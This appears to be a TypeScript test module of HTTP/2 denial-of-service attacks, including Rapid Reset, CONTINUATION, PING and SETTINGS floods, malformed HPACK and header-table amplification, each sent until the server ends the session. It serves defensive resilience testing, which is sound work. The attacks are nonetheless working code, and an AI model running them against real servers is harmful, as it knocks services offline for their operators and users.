/** Known attacks on HTTP/2 servers: each sends as much as it takes for the server to end the session. */
import {
  ACK,
  CONTINUATION,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  GOAWAY,
  HEADERS,
  literals,
  number,
  OPENING,
  PING,
  PREFACE,
  PRIORITY,
  request,
  requestBlock,
  RST_STREAM,
  setting,
  SETTINGS,
  WINDOW_UPDATE,
} from './http2-frames.js';
import type { RawSession } from './http2-frames.js';

type Attack = (session: RawSession) => Promise<void>;

const CANCEL = 8;
const INITIAL_WINDOW_SIZE = 4;
const post = { ':method': 'POST' };

/** Sends `count` pieces while the session is open, without waiting for a session that does not read. */
async function flood(
  session: RawSession,
  count: number,
  piece: (index: number) => Uint8Array,
): Promise<void> {
  const most = 100;
  for (let at = 0; at < count && !session.isClosed; at += most) {
    const sent = session.send(...Array.from({ length: most }, (_, index) => piece(at + index)));
    await Promise.race([sent, new Promise(resolve => setTimeout(resolve, 200))]);
  }
}

const same = (count: number, bytes: Buffer): Attack => {
  return async session => {
    await session.send(OPENING);
    await flood(session, count, () => bytes);
  };
};

/** Runs an attack without reading what the server sends. */
const unread = (attack: Attack): Attack => {
  return async session => {
    session.socket.pause();
    await attack(session);
    session.socket.resume();
  };
};

const once = (...parts: Buffer[]): Attack => {
  return async session => {
    await session.send(OPENING, ...parts);
  };
};

const streamOf = (index: number): number => 1 + 2 * index;

const settings = frame(SETTINGS, 0, 0);
const ping = frame(PING, 0, 0, Buffer.alloc(8));
const header = (stream: number, payload: Uint8Array): Buffer =>
  frame(HEADERS, END_STREAM | END_HEADERS, stream, payload);

/** A header of 4,000 bytes in the dynamic table, and the index that refers to it. */
const LARGE_FIELD = Buffer.concat([
  Buffer.from([0x40, 1, 0x61, 0x7f, ((3900 - 127) % 128) | 128, (3900 - 127) >> 7]),
  Buffer.alloc(3900, 'b'),
]);
const LARGE_INDEX = 0x80 | 62;

export const ATTACKS: Record<string, Attack> = {
  'CVE-2023-44487: requests that are cancelled immediately': async session => {
    await session.send(OPENING);
    await flood(session, 2500, index => {
      const stream = streamOf(index);
      return Buffer.concat([request(stream), frame(RST_STREAM, 0, stream, number(CANCEL))]);
    });
  },
  'CVE-2025-8671: requests that make the server cancel them': async session => {
    await session.send(OPENING);
    await flood(session, 2500, index => {
      const stream = streamOf(index);
      return Buffer.concat([request(stream), frame(WINDOW_UPDATE, 0, stream, number(0))]);
    });
  },
  'CVE-2019-9515: endless SETTINGS': same(20_000, settings),
  'endless SETTINGS, responses unread': unread(same(20_000, settings)),
  'a thousand settings in one frame': once(
    frame(SETTINGS, 0, 0, Buffer.concat(Array.from({ length: 1000 }, () => setting(0x4242, 1)))),
  ),
  'CVE-2019-9512: endless PING': same(20_000, ping),
  'endless PING, responses unread': unread(same(20_000, ping)),
  'unsolicited PING acknowledgements': same(20_000, frame(PING, ACK, 0, Buffer.alloc(8))),
  'CVE-2024-27983: endless CONTINUATION': async session => {
    await session.send(OPENING, frame(HEADERS, END_STREAM, 1, requestBlock()));
    const fields = literals({ x: 'y'.repeat(100) });
    await flood(session, 20_000, () => frame(CONTINUATION, 0, 1, fields));
  },
  'endless empty CONTINUATION': async session => {
    await session.send(OPENING, frame(HEADERS, END_STREAM, 1, requestBlock()));
    await flood(session, 20_000, () => frame(CONTINUATION, 0, 1));
  },
  'CONTINUATION, and then the connection ends': async session => {
    await session.send(OPENING, frame(HEADERS, END_STREAM, 1, requestBlock()));
    session.socket.end(frame(CONTINUATION, 0, 1, literals({ x: 'y' })));
  },
  'CVE-2019-9518: endless empty DATA': async session => {
    await session.send(OPENING, frame(HEADERS, END_HEADERS, 1, requestBlock('/', post)));
    await flood(session, 50_000, () => frame(DATA, 0, 1));
  },
  'endless WINDOW_UPDATE of one': same(20_000, frame(WINDOW_UPDATE, 0, 0, number(1))),
  'CVE-2026-21714: WINDOW_UPDATE after GOAWAY': async session => {
    await session.send(OPENING, frame(WINDOW_UPDATE, 0, 0, number(0x7fffffff)));
    await flood(session, 20_000, () => frame(WINDOW_UPDATE, 0, 0, number(0x7fffffff)));
  },
  'endless PRIORITY': async session => {
    await session.send(OPENING);
    await flood(session, 20_000, index => frame(PRIORITY, 0, streamOf(index), Buffer.from([0, 0, 0, 0, 16])));
  },
  'endless GOAWAY': same(10_000, frame(GOAWAY, 0, 0, Buffer.alloc(8))),
  'CVE-2025-59465: malformed HPACK': once(header(1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0x0f]))),
  'truncated HPACK': once(header(1, Buffer.from([0, 0x50, 0x41]))),
  'CVE-2026-48937: malformed HPACK, and then endless PING': async session => {
    await session.send(OPENING, header(1, Buffer.from([0xff, 0xff, 0xff, 0xff, 0x0f])));
    await flood(session, 20_000, () => ping);
  },
  'a header block of 100 KB': async session => {
    await session.send(OPENING, frame(HEADERS, END_STREAM, 1, requestBlock()));
    const fields = Buffer.concat(Array.from({ length: 40 }, () => literals({ x: 'y'.repeat(120) })));
    for (let at = 0; at < 20; at++)
      await session.send(frame(CONTINUATION, at < 19 ? 0 : END_HEADERS, 1, fields));
  },
  'CVE-2026-56846: a header of 4 KB that is repeated by its index': async session => {
    const indexes = Buffer.alloc(12_000, LARGE_INDEX);
    await session.send(OPENING, header(1, Buffer.concat([requestBlock(), LARGE_FIELD, indexes])));
    await flood(session, 100, at => header(streamOf(at + 1), Buffer.concat([requestBlock(), indexes])));
  },
  'invalid header names': async session => {
    await session.send(OPENING);
    await flood(session, 3000, index => header(streamOf(index), literals({ 'Bad Name': 'x' })));
  },
  'responses without a window to send them in': async session => {
    await session.send(PREFACE, frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 0)));
    await flood(session, 300, index => request(streamOf(index), '/large'));
  },
  'requests that never end, without a limit': async session => {
    await session.send(OPENING);
    await flood(session, 2500, index =>
      frame(HEADERS, END_HEADERS, streamOf(index), requestBlock('/', post)),
    );
  },
  'a frame that is too long': once(frame(DATA, 0, 1, Buffer.alloc(10), 1 << 23), Buffer.alloc(100_000)),
  'a cancelled stream that never existed': once(frame(RST_STREAM, 0, 99, number(CANCEL))),
  'HTTP/1.1': async session => {
    await session.send(Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'));
  },
  'nothing at all': () => Promise.resolve(),
};
